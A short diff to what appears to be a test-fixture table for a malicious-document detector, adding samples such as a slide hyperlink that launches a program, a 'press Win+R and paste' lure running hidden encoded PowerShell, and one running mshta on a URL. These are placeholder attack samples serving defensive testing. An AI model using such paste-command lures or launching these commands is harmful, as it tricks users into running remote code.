@@ -189,6 +189,14 @@ FILES: dict[str, Sample] = {
         "ppt/slides/slide1.xml",
         '<?xml version="1.0"?><p:sld><a:hlinkHover r:id="rId2" action="ppaction://program"/></p:sld>',
     ),
+    "slide_click_starts_program": text(
+        "ppt/slides/slide1.xml",
+        '<?xml version="1.0"?><p:sld><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:sld>',
+    ),
+    "paste_command_encoded_text": text(
+        "steps.txt", f"Press Win+R, paste this line and press Enter:\n\n{PS} -w hidden -enc {'SQBFAFgA' * 9}\n"
+    ),
+    "paste_command_text": text("steps.txt", f"Press Win + R, paste this and press Enter:\n\nmshta {URL}\n"),
     "ribbon_runs_remote_macro": text(
         "customUI/customUI.xml", '<?xml version="1.0"?><customUI onLoad="https://files.example/menu.dotm!start"/>'
     ),
